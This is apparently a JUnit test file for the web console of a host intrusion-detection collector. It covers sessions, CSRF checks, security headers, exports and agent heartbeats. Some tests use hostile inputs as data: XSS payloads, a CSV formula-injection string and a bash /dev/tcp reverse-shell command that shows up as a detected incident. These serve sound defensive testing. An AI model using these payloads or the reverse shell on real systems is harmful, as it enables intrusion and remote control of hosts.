package io.graftwatch.collector.console;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.graftwatch.collector.store.Person.Role;
import io.graftwatch.collector.support.Sample;
import io.graftwatch.collector.support.TestAgent;
import io.graftwatch.collector.support.TestCollector;
import io.graftwatch.collector.support.Tls;
import io.graftwatch.delivery.finding.Heartbeat;
import io.graftwatch.delivery.finding.Json;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// The console as a browser sees it.
class ConsoleTest {
  private static final List<String> PAGES = List.of("/", "/hosts", "/incidents/gw-x");

  @TempDir private Path folder;
  private TestCollector collector;
  private HttpClient browser;

  @BeforeEach
  void start() throws Exception {
    collector = new TestCollector(folder);
    browser = Tls.trusting(collector.authority());
  }

  @AfterEach
  void stop() {
    browser.close();
    collector.close();
  }

  @Test
  void nothingIsShownWithoutASession() throws Exception {
    for (String page : PAGES) {
      HttpResponse<String> reply = get(page, b -> b);
      assertThat(reply.statusCode()).as(page).isEqualTo(303);
      assertThat(reply.headers().firstValue("Location")).contains("/login");
    }
    assertThat(get("/api/findings", b -> b).statusCode()).isEqualTo(401);
    assertThat(get("/incidents/gw-x/ocsf", b -> b).statusCode()).isEqualTo(303);
  }

  @Test
  void onlyASessionOpensTheConsoleUntilItIsIdle() throws Exception {
    String session = session();
    assertThat(get("/", b -> as(b, session)).statusCode()).isEqualTo(200);
    assertThat(get("/", b -> as(b, "guess")).statusCode()).isEqualTo(303);
    assertThat(get("/", b -> as(b, session + "x")).statusCode()).isEqualTo(303);
    collector.clock().advance(Duration.ofMinutes(31));
    assertThat(get("/", b -> as(b, session)).statusCode()).as("idle").isEqualTo(303);
  }

  @Test
  void signingOutEndsTheSession() throws Exception {
    String session = session();
    assertThat(post("/logout", session, "csrf=" + csrf(session)).statusCode()).isEqualTo(303);
    assertThat(get("/", b -> as(b, session)).statusCode()).isEqualTo(303);
  }

  @Test
  void whatChangesSomethingComesFromAPageOfTheSameSession() throws Exception {
    String session = session();
    String own = csrf(session);
    assertThat(post("/logout", session, "").statusCode()).as("no token").isEqualTo(403);
    assertThat(post("/logout", session, "csrf=" + csrf(session())).statusCode())
        .as("the token of another session")
        .isEqualTo(403);
    var unsigned = form("/logout", "csrf=" + own);
    assertThat(send(as(unsigned, session)).statusCode()).as("no word of where from").isEqualTo(403);
    for (Map.Entry<String, String> foreign :
        Map.of("Sec-Fetch-Site", "same-site", "Origin", "null").entrySet()) {
      var request = form("/logout", "csrf=" + own).header(foreign.getKey(), foreign.getValue());
      assertThat(send(as(request, session)).body()).contains("came from another site");
    }
    assertThat(page("/")).as("it goes on").contains("Inbox");
    var origin =
        form("/logout", "").header("Origin", collector.consoleUrl()).header("X-CSRF-Token", own);
    assertThat(send(as(origin, session)).statusCode()).as("as a script says it").isEqualTo(303);
  }

  @Test
  void administratorsSeeTheOutputs() throws Exception {
    assertThat(page("/settings/outputs")).contains("Findings go nowhere else.");
    assertThat(get("/settings/outputs", b -> b).statusCode()).isEqualTo(303);
  }

  @Test
  void everyAnswerForbidsWhatPagesDoNotNeed() throws Exception {
    String session = session();
    for (String page : List.of("/", "/hosts", "/login", "/nowhere", "/api/findings", "/health")) {
      HttpResponse<String> reply = get(page, b -> as(b, session));
      assertThat(reply.headers().firstValue("Content-Security-Policy").orElseThrow())
          .startsWith("default-src 'none'; script-src 'self'; style-src 'self';")
          .doesNotContain("unsafe");
      assertThat(reply.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
      assertThat(reply.headers().firstValue("Server")).isEmpty();
      assertThat(reply.body()).doesNotContain("<script>", " style=", "onclick", "http://");
    }
    Matcher asset =
        Pattern.compile("(?:href|src)=\"(/assets/[^\"]+)\"").matcher(get("/login", b -> b).body());
    int assets = 0;
    while (asset.find()) {
      assertThat(get(asset.group(1), b -> b).statusCode()).as(asset.group(1)).isEqualTo(200);
      assets++;
    }
    assertThat(assets).isGreaterThanOrEqualTo(4);
  }

  @Test
  void hostileTextIsShownAndDoesNothing() throws Exception {
    TestAgent agent = collector.agent("web01<script>alert(1)</script>");
    String hostile = "<img src=x onerror=alert(1)>'\"`{{7*7}}${7*7}@if(true)\u202e\u001b[31m\u0000";
    Sample sample = Sample.of("h\"><svg/onload=alert(1)>", "a").message(hostile);
    ObjectNode json = sample.json();
    poison(json, hostile);
    assertThat(agent.deliver(List.of(json)).results().getFirst().reason()).isNull();
    String session = session();
    for (String page : List.of("/?kind=any", "/incidents/" + sample.findingUid(), "/hosts")) {
      HttpResponse<String> reply = get(page, b -> as(b, session));
      assertThat(reply.statusCode()).as(page).isEqualTo(200);
      assertThat(reply.body())
          .as(page)
          .doesNotContain("<img src=x", "<svg/onload", "<script>", "\u202e", "\u001b", "\u0000");
    }
    assertThat(get("/?kind=any", b -> as(b, session)).body())
        .contains("&lt;img src=x onerror=alert(1)&gt;")
        .contains("{{7*7}}${7*7}@if(true)\\u202e\\u001b[31m\\u0000");
    // The export is the record as it came.
    HttpResponse<String> export =
        get("/incidents/" + sample.findingUid() + "/ocsf", b -> as(b, session));
    assertThat(Json.mapper().readTree(export.body())).isEqualTo(sample.copy());
    assertThat(export.headers().firstValue("Content-Disposition").orElseThrow())
        .startsWith("attachment; filename=\"gw-");
    String search =
        "/?q=" + URLEncoder.encode("\"><script>alert(1)</script>", StandardCharsets.UTF_8);
    assertThat(get(search, b -> as(b, session)).body()).doesNotContain("<script>alert");
  }

  /// Puts the text into every text of the record that may hold anything.
  private static void poison(JsonNode node, String hostile) {
    if (node instanceof ObjectNode object) {
      for (Map.Entry<String, JsonNode> entry : object.properties()) {
        boolean free =
            !entry.getKey().equals("uid")
                && !entry.getKey().equals("hostname")
                && !entry.getKey().equals("message");
        if (entry.getValue().isTextual() && free) {
          entry.setValue(object.textNode(hostile));
        } else {
          poison(entry.getValue(), hostile);
        }
      }
    } else {
      node.forEach(child -> poison(child, hostile));
    }
  }

  @Test
  void theIncidentTellsTheStory() throws Exception {
    TestAgent agent = collector.agent("web-01");
    Sample sample = Sample.of("web-01", "a");
    agent.deliver(List.of(sample.copy()));
    agent.deliver(List.of(sample.revision(2).sequence(2).copy()));
    String page = page("/incidents/" + sample.findingUid());
    assertThat(page)
        .contains("Component placed", "Shell from server lineage", "Outbound connection")
        .contains("+1 d", "203.0.113.7:4444", "mod_statx.so")
        .contains("sh -c 'bash -i &gt;&amp; /dev/tcp/203.0.113.7/4444 0&gt;&amp;1'")
        .contains("a2dismod the module")
        .contains("T1059.004", "class=\"box marked\"")
        .containsSubsequence("systemd", "apache2", "apache2", "sh");
    assertThat(page.indexOf("Component placed")).isLessThan(page.indexOf("Outbound connection"));
    String session = session();
    assertThat(get("/incidents/gw-nobody", b -> as(b, session)).statusCode()).isEqualTo(404);
  }

  @Test
  void theInboxFiltersByItsAddressAndPages() throws Exception {
    TestAgent agent = collector.agent("web01");
    for (int i = 0; i < 60; i++) {
      agent.deliver(
          List.of(
              Sample.of(i % 2 == 0 ? "even" : "odd", "i" + i)
                  .severity(i == 0 ? 1 : 4)
                  .message("Number " + i + ".")
                  .sequence(i + 1)
                  .copy()));
    }
    String session = session();
    String first = get("/", b -> as(b, session)).body();
    assertThat(first).contains(">Number 59.<", ">Number 10.<").doesNotContain(">Number 9.<");
    Matcher older = Pattern.compile("href=\"([^\"]+)\" rel=\"next\"").matcher(first);
    assertThat(older.find()).isTrue();
    String second = get(older.group(1).replace("&amp;", "&"), b -> as(b, session)).body();
    assertThat(second).contains(">Number 9.<", ">Number 1.<").doesNotContain(">Number 10.<");
    assertThat(second).as("a record, not an alert").doesNotContain(">Number 0.<");
    assertThat(get("/?host=even&q=number+4", b -> as(b, session)).body())
        .contains(">Number 40.<", ">Number 4.<")
        .doesNotContain(">Number 41.<");
    assertThat(get("/?kind=records", b -> as(b, session)).body())
        .contains(">Number 0.<")
        .doesNotContain(">Number 1.<");
    for (String bad : List.of("kind=x", "severity=9", "severity=-1", "before=1", "before=a-b")) {
      assertThat(get("/?" + bad, b -> as(b, session)).statusCode()).as(bad).isEqualTo(400);
    }
  }

  @Test
  void exportsHoldEverythingAndNoFormula() throws Exception {
    TestAgent agent = collector.agent("web01");
    Sample sample = Sample.of("web01", "a").message("=cmd|' /C calc'!A0");
    agent.deliver(List.of(sample.copy(), Sample.of("web02", "b").sequence(2).copy()));
    agent.deliver(List.of(sample.revision(2).sequence(3).copy()));

    assertThat(page("/export.csv").lines())
        .hasSize(3)
        .anySatisfy(line -> assertThat(line).contains(",\"'=cmd|' /C calc'!A0\","));
    assertThat(page("/export.ndjson?host=web02").lines())
        .singleElement()
        .satisfies(line -> assertThat(line).contains("\"host\":\"web02\""));
    assertThat(page("/export.ocsf").lines().map(ConsoleTest::tree)).contains(sample.copy());

    String incident = "/incidents/" + sample.findingUid();
    assertThat(page(incident)).contains("/export.ndjson?agent=", "/export.csv?agent=");
    assertThat(page(incident + "/export.ndjson").lines().map(ConsoleTest::tree))
        .hasSize(2)
        .last()
        .isEqualTo(sample.copy());
    assertThat(page(incident + "/export.csv").lines())
        .hasSize(3)
        .last()
        .asString()
        .startsWith("\"" + sample.uid() + "\",\"Update\",\"5\",")
        .contains("\"'=cmd|' /C calc'!A0\"");
  }

  @Test
  void aDamagedRecordDoesNotKeepTheOthersFromAnExport() throws Exception {
    TestAgent agent = collector.agent("web01");
    Sample sample = Sample.of("web01", "a");
    agent.deliver(List.of(sample.copy()));
    agent.deliver(List.of(sample.revision(2).sequence(2).copy()));
    agent.deliver(List.of(Sample.of("web01", "b").sequence(3).copy()));
    String file = "jdbc:sqlite:" + folder.resolve("state/collector.db");
    try (var store = DriverManager.getConnection(file);
        var statement = store.createStatement()) {
      statement.executeUpdate("update findings set json = x'ff' where revision = 2");
    }
    String damaged = "damaged";
    assertThat(page("/export.ocsf").lines()).hasSize(2).anyMatch(line -> line.contains(damaged));
    String incident = "/incidents/" + sample.findingUid();
    assertThat(page(incident + "/export.ndjson").lines())
        .hasSize(2)
        .last()
        .asString()
        .contains(damaged, sample.uid());
    assertThat(page(incident + "/export.csv").lines())
        .hasSize(3)
        .last()
        .asString()
        .contains(damaged, sample.uid());
  }

  private static JsonNode tree(String line) {
    try {
      return Json.mapper().readTree(line);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @Test
  void administratorsSeeWhatIsKept() throws Exception {
    assertThat(page("/settings/storage")).contains("365 d", "90 d", "Nothing yet.");
  }

  @Test
  void programsReadTheSameWithTheBearerToken() throws Exception {
    TestAgent agent = collector.agent("web01");
    Sample sample = Sample.of("web01", "a");
    agent.deliver(List.of(sample.copy()));
    String token = collector.apiToken();
    JsonNode list = Json.mapper().readTree(get("/api/findings", b -> bearer(b, token)).body());
    assertThat(list.at("/findings/0/uid").asText()).isEqualTo(sample.findingUid());
    assertThat(list.at("/findings/0/metadata_uid").asText()).isEqualTo(sample.uid());
    assertThat(list.at("/findings/0/agent_id").asText()).isEqualTo(agent.id());
    assertThat(list.at("/findings/0/severity_id").asInt()).isEqualTo(5);
    assertThat(list.at("/findings/0/codes")).hasSize(3);
    assertThat(
            Json.mapper()
                .readTree(
                    get("/api/findings/" + sample.findingUid(), b -> bearer(b, token)).body()))
        .isEqualTo(sample.copy());
    assertThat(get("/api/findings", b -> bearer(b, "guess")).statusCode()).isEqualTo(401);
    assertThat(get("/api/findings/gw-nobody", b -> bearer(b, token)).statusCode()).isEqualTo(404);
    assertThat(get("/api/findings?severity=5&host=web01", b -> bearer(b, token)).body())
        .contains(sample.uid());
    assertThat(get("/api/findings?host=web02", b -> bearer(b, token)).body())
        .doesNotContain(sample.uid());
  }

  @Test
  void heartbeatsAreJudged() throws Exception {
    TestAgent agent = collector.agent("web01");
    collector.agent("quiet");
    HttpResponse<String> reply = agent.post("/v1/heartbeat", Json.bytes(beat(agent.id(), 100, 0)));
    assertThat(reply.body()).contains("\"policy_version\":0").contains("\"stored_sequence\":0");
    assertThat(state("web01")).isEqualTo("healthy");
    assertThat(state("quiet")).isEqualTo("waiting");

    agent.post("/v1/heartbeat", Json.bytes(beat(agent.id(), 93, 0)));
    assertThat(state("web01")).isEqualTo("degraded");
    assertThat(page("/hosts")).contains("auditd: 7 records are not accounted for");
    agent.post("/v1/heartbeat", Json.bytes(beat(agent.id(), 100, 2)));
    assertThat(page("/hosts")).contains("2 findings are not accounted for");

    agent.post("/v1/heartbeat", Json.bytes(beat(agent.id(), 100, 0)));
    collector.clock().advance(Duration.ofSeconds(160));
    assertThat(state("web01")).isEqualTo("late");
    collector.clock().advance(Duration.ofSeconds(60));
    assertThat(state("web01")).as("the collector may just have been started").isEqualTo("late");
    collector.clock().advance(Duration.ofSeconds(90));
    assertThat(state("web01")).isEqualTo("silent");
    assertThat(page("/hosts?state=silent&q=WEB0")).contains("web01").doesNotContain(">quiet<");
    assertThat(page("/hosts?state=waiting")).contains(">quiet<").doesNotContain(">web01<");

    assertThat(agent.post("/v1/heartbeat", Json.bytes(beat("other", 100, 0))).statusCode())
        .isEqualTo(403);
  }

  private String state(String host) throws Exception {
    String token = collector.apiToken();
    JsonNode hosts = Json.mapper().readTree(get("/api/hosts", b -> bearer(b, token)).body());
    for (JsonNode row : hosts.get("hosts")) {
      if (row.path("hostname").asText().equals(host)) {
        return row.path("state").asText();
      }
    }
    throw new AssertionError("no host " + host + " in " + hosts);
  }

  private Heartbeat beat(String agentId, long parsed, long missing) {
    return new Heartbeat(
        agentId,
        "machine",
        "boot-1",
        "web01",
        1,
        false,
        new Heartbeat.Versions("0.1.0", "Debian", 0, "18.1", "ab"),
        new Heartbeat.Clock(collector.clock().millis(), 60_000, null),
        List.of(
            new Heartbeat.SourceHealth(
                "auditd", "running", 100, parsed, 0, 0, 0, null, null, Map.of(), null)),
        new Heartbeat.FindingLedger(10 + missing, 10, 0, 0, 0),
        new Heartbeat.Spool(0, 0, null, 1),
        List.of(),
        new Heartbeat.Cost(80_000_000, 1, 300, 20, 50),
        Map.of(),
        List.of());
  }

  private String session() throws Exception {
    return collector.session(Role.ADMIN);
  }

  private static HttpRequest.Builder sameOrigin(HttpRequest.Builder request) {
    return request.header("Sec-Fetch-Site", "same-origin");
  }

  private HttpRequest.Builder form(String path, String body) {
    return b(path)
        .header("Content-Type", "application/x-www-form-urlencoded")
        .POST(BodyPublishers.ofString(body));
  }

  private HttpResponse<String> post(String path, String session, String body) throws Exception {
    return send(as(sameOrigin(form(path, body)), session));
  }

  /// What the forms of the pages bring back.
  private String csrf(String session) throws Exception {
    Matcher field =
        Pattern.compile("name=\"csrf\" value=\"([^\"]+)\"")
            .matcher(get("/", b -> as(b, session)).body());
    assertThat(field.find()).isTrue();
    return field.group(1);
  }

  private String page(String path) throws Exception {
    String session = session();
    HttpResponse<String> reply = get(path, b -> as(b, session));
    assertThat(reply.statusCode()).as(path).isEqualTo(200);
    return reply.body();
  }

  private static HttpRequest.Builder as(HttpRequest.Builder request, String session) {
    return request.header("Cookie", "__Host-graftwatch=" + session);
  }

  private static HttpRequest.Builder bearer(HttpRequest.Builder request, String token) {
    return request.header("Authorization", "Bearer " + token);
  }

  private HttpRequest.Builder b(String path) {
    return HttpRequest.newBuilder(URI.create(collector.consoleUrl() + path))
        .timeout(Duration.ofSeconds(30));
  }

  private HttpResponse<String> get(String path, UnaryOperator<HttpRequest.Builder> more)
      throws Exception {
    return send(more.apply(b(path)).GET());
  }

  private HttpResponse<String> send(HttpRequest.Builder request) throws Exception {
    return browser.send(request.build(), BodyHandlers.ofString());
  }
}
